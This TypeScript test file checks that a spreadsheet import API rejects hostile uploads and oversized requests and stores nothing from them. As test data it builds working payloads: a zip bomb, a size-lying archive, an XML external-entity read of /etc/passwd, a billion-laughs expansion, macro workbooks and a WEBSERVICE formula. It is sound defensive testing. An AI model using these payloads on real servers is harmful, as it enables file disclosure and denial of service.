import { zip } from '@cj-tech-master/excelts/archive';
import { Workbook } from '@cj-tech-master/excelts';
import { randomBytes, randomUUID } from 'node:crypto';
import { request } from 'node:http';
import type { IncomingMessage } from 'node:http';
import { json } from 'node:stream/consumers';
import { createTestApplication } from '../../../../test/test-application';
import type { TestApplication } from '../../../../test/test-application';
import type { TestClient, TestFile } from '../../../../test/test-client';
import type { Problem } from '../../../platform/http/problem.filter';
import type { ImportRunDto } from '../../../platform/imports/import-run.dto';
import { signInAs } from '../list-accounts.spec-kit';
import { CHINESE_HEADERS, createListCounty, encodeGb18030, EXAMPLE_ITEMS } from '../responsibility.spec-kit';
import type { ListCounty } from '../responsibility.spec-kit';
import { checkedRun } from './list-import.spec-kit';

const URL = '/api/responsibility-lists/imports';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const GIGABYTE = 1024 ** 3;
const MEGABYTE = 1024 ** 2;
const ROW = EXAMPLE_ITEMS.find(([code]) => code === 'R10')!;

type Package = ReturnType<typeof zip>;
const bytesOf = async (made: Package) => Buffer.from(await made.bytes());
const bare = () => zip().add('xl/workbook.xml', '<workbook/>').add('[Content_Types].xml', '<Types/>');

/** A workbook of one sheet, part by part, as no program would write it. */
function written(sheet: string, prologue = ''): Package {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const packaged = 'http://schemas.openxmlformats.org/package/2006';
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  return zip()
    .add(
      '[Content_Types].xml',
      `<Types xmlns="${packaged}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${type}.worksheet+xml"/></Types>`,
    )
    .add(
      '_rels/.rels',
      `<Relationships xmlns="${packaged}/relationships"><Relationship Id="rId1" Type="${relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    )
    .add(
      'xl/workbook.xml',
      `<workbook xmlns="${main}" xmlns:r="${relations}"><sheets><sheet name="清单" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    )
    .add(
      'xl/_rels/workbook.xml.rels',
      `<Relationships xmlns="${packaged}/relationships"><Relationship Id="rId1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    )
    .add(
      'xl/worksheets/sheet1.xml',
      `<?xml version="1.0" encoding="UTF-8"?>${prologue}<worksheet xmlns="${main}"><sheetData>${sheet}</sheetData></worksheet>`,
    );
}

const sheetOf = (rows: readonly (readonly string[])[]) =>
  rows
    .map(
      (cells, row) =>
        `<row r="${row + 1}">${cells
          .map(
            (text, column) =>
              `<c r="${String.fromCharCode(65 + column)}${row + 1}" t="inlineStr"><is><t>${text}</t></is></c>`,
          )
          .join('')}</row>`,
    )
    .join('');

/** The same package, whose headers say of every large part that it unpacks to a thousand bytes. */
function lying(file: Buffer): Buffer {
  const liar = Buffer.from(file);
  for (const [signature, size] of [
    ['PK\u0003\u0004', 22],
    ['PK\u0001\u0002', 24],
  ] as const) {
    for (let at = liar.indexOf(signature); at >= 0; at = liar.indexOf(signature, at + 1)) {
      if (liar.readUInt32LE(at + size) > MEGABYTE) liar.writeUInt32LE(1_000, at + size);
    }
  }
  return liar;
}

async function formulas(): Promise<Buffer> {
  const workbook = new Workbook();
  const sheet = workbook.addWorksheet('清单');
  sheet.addRow([...CHINESE_HEADERS]);
  sheet.addRow([...ROW]);
  sheet.getCell('C2').value = { formula: 'WEBSERVICE("http://example.test/"&A2)', result: ROW[2]! };
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

const good = () => written(sheetOf([CHINESE_HEADERS, ROW]));
const FILES: readonly (readonly [string, string, () => Promise<Buffer> | Buffer, number, string])[] = [
  [
    'an archive that bursts',
    'bomb.xlsx',
    () => bytesOf(bare().add('xl/worksheets/sheet1.xml', ' '.repeat(30 * MEGABYTE))),
    413,
    'document.too-large',
  ],
  [
    'an archive that bursts and says that it does not',
    'liar.xlsx',
    async () =>
      lying(await bytesOf(written(`${' '.repeat(30 * MEGABYTE)}${sheetOf([CHINESE_HEADERS, ROW])}`))),
    422,
    'document.unreadable',
  ],
  [
    'an archive in an archive',
    'nested.xlsx',
    async () => bytesOf(zip().add('责任清单.xlsx', await bytesOf(good()))),
    415,
    'document.not-a-table',
  ],
  [
    'a workbook with macros, called what it is',
    'macros.xlsm',
    () => bytesOf(good().add('xl/vbaProject.bin', randomBytes(64))),
    415,
    'document.macros',
  ],
  [
    'a workbook with macros, called .xlsx',
    'macros.xlsx',
    () => bytesOf(good().add('xl/vbaProject.bin', randomBytes(64))),
    415,
    'document.macros',
  ],
  [
    'a workbook that asks for a file of the server',
    'xxe.xlsx',
    () =>
      bytesOf(
        written(
          sheetOf([CHINESE_HEADERS, ROW.with(2, '&secret;')]),
          '<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        ),
      ),
    422,
    'document.unreadable',
  ],
  [
    'a workbook whose words unfold without end',
    'laughs.xlsx',
    () =>
      bytesOf(
        written(
          sheetOf([CHINESE_HEADERS, ROW.with(2, '&c;')]),
          `<!DOCTYPE worksheet [<!ENTITY a "${'ha'.repeat(50)}"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}">]>`,
        ),
      ),
    422,
    'document.unreadable',
  ],
  [
    'a PDF called .xlsx',
    'scan.xlsx',
    () => Buffer.from('%PDF-1.7\n\u0000\u0001'),
    415,
    'document.not-a-table',
  ],
  [
    'a program called .csv',
    'x.csv',
    () => Buffer.from('MZ\u0090\u0000\u0003', 'latin1'),
    415,
    'document.encoding-unknown',
  ],
  ['nothing', 'empty.csv', () => Buffer.from('\r\n \r\n'), 422, 'document.empty'],
];

describe('what the import of lists is handed over HTTP', () => {
  let application: TestApplication;
  let county: ListCounty;
  let clerk: TestClient;

  beforeAll(async () => {
    application = await createTestApplication({ worker: true });
    county = await createListCounty(application.database.owner);
    clerk = await signInAs(application, county, 'clerk', '组织部长', 'organization-clerk');
    await application.api.listen(0, '127.0.0.1');
  });
  afterAll(() => application.close());

  const upload = <Body = Problem>(file: TestFile) =>
    clerk.upload<Body>(URL, file, { fields: { year: '2026' } });
  const counts = async () => {
    const { rows } = await application.database.owner.query<Record<string, number>>(
      `SELECT (SELECT count(*)::int FROM import_run) AS runs, (SELECT count(*)::int FROM import_portion) AS portions,
              (SELECT count(*)::int FROM responsibility_list) AS lists`,
    );
    return rows[0]!;
  };
  const NOTHING = { runs: 0, portions: 0, lists: 0 };

  it.each(FILES)(
    '%s is refused at once, and nothing is kept of it',
    async (_, fileName, make, status, code) => {
      const answer = await upload({ fileName, mediaType: XLSX, content: await make() });
      expect([answer.status, answer.body.code]).toEqual([status, code]);
      expect(answer.body.sentences.zh).toMatch(/请.+。$/);
      expect(await counts()).toEqual(NOTHING);
    },
  );

  /** POSTs as much of a form with one file as is taken, over a real connection; says what was answered, and how much was sent. */
  const pour = async (bytes: number, declared: number | null) => {
    const head = Buffer.from(
      `--x\r\ncontent-disposition: form-data; name="year"\r\n\r\n2026\r\n--x\r\ncontent-disposition: form-data; name="file"; filename="lists.csv"\r\ncontent-type: text/csv\r\n\r\n`,
    );
    const sending = request(`${await application.api.getUrl()}${URL}`, {
      method: 'POST',
      headers: {
        host: 'zeren.test',
        'sec-fetch-site': 'same-origin',
        'content-type': 'multipart/form-data; boundary=x',
        'idempotency-key': randomUUID(),
        'x-xsrf-token': clerk.cookies.get('XSRF-TOKEN')!,
        cookie: [...clerk.cookies].map(([name, value]) => `${name}=${value}`).join('; '),
        ...(declared === null ? {} : { 'content-length': declared }),
      },
    });
    let done = false;
    let sent = 0;
    const answered = new Promise<IncomingMessage>((resolve, reject) => {
      sending.on('response', resolve);
      // Whoever was answered may find the line cut.
      sending.on('error', (error) => done || reject(error));
    });
    const answer = answered.then(async (response) => {
      done = true;
      return { status: response.statusCode, body: (await json(response)) as Partial<Problem> };
    });
    const chunk = Buffer.alloc(MEGABYTE, '责任');
    sending.write(head);
    while (!done && sent < bytes) {
      sent += chunk.length;
      const taken = sending.write(chunk);
      if (!taken) {
        await Promise.race([
          new Promise((resolve) => sending.once('drain', resolve)),
          answered.catch(() => undefined),
        ]);
      }
    }
    const { status, body } = await answer;
    sending.destroy();
    return { status, code: body.code, zh: body.sentences?.zh, megabytes: sent / MEGABYTE };
  };

  it('refuses a gigabyte by what is said of its length, before any of it is taken', async () => {
    const { status, code, zh, megabytes } = await pour(GIGABYTE, GIGABYTE);
    expect([status, code]).toEqual([413, 'request.too-large']);
    expect(zh).toContain('20 MB');
    expect(megabytes).toBeLessThan(20);
    expect(await counts()).toEqual(NOTHING);
  });

  it('takes none of a gigabyte that says nothing of its length', async () => {
    const { status, code, megabytes } = await pour(GIGABYTE, null);
    expect([status, code]).toEqual([400, 'request.length-missing']);
    expect(megabytes).toBeLessThan(20);
    expect(await counts()).toEqual(NOTHING);
  });

  it('takes no more of a gigabyte than it said it was', async () => {
    // What comes after the end that was said is no request; the line is cut.
    const { status, megabytes } = await pour(GIGABYTE, 3 * MEGABYTE);
    expect(status).toBe(400);
    expect(megabytes).toBeLessThan(100);
    expect(await counts()).toEqual(NOTHING);
  });

  it('says where a formula stands once the file is read, and lets nothing of it be taken in', async () => {
    const uploaded = await upload<ImportRunDto>({
      fileName: 'f.xlsx',
      mediaType: XLSX,
      content: await formulas(),
    });
    expect(uploaded.status).toBe(202);
    const run = await checkedRun(application, clerk, uploaded.body.id);
    expect(run).toMatchObject({ canApply: false, summary: { rows: 0, errors: 1 } });
    expect(run.faults[0]!.zh).toContain('“清单”的 C2 是公式');
    const body = { mode: 'good-rows' };
    const applied = await clerk.post(`${URL}/${run.id}/apply`, { version: run.version, body });
    expect(applied.status).toBe(422);
    expect(await counts()).toMatchObject({ portions: 0, lists: 0 });
  });

  it('reads a CSV in GB18030 for what it says', async () => {
    const text = [CHINESE_HEADERS, ROW].map((row) => row.map((cell) => `"${cell}"`).join(',')).join('\r\n');
    const file = { fileName: '责任清单.csv', mediaType: 'text/csv', content: encodeGb18030(text) };
    const uploaded = await upload<ImportRunDto>(file);
    const run = await checkedRun(application, clerk, uploaded.body.id);
    expect(run).toMatchObject({ faults: [], summary: { rows: 1, goodRows: 1 } });
    const body = { mode: 'all-or-nothing' };
    const applied = await clerk.post(`${URL}/${run.id}/apply`, { version: run.version, body });
    expect(applied.status).toBe(200);
    const { rows } = await application.database.owner.query<{ text_zh: string }>(
      'SELECT text_zh FROM responsibility_item WHERE district_id = $1',
      [county.districtId],
    );
    expect(rows).toEqual([{ text_zh: ROW[2] }]);
  });
});
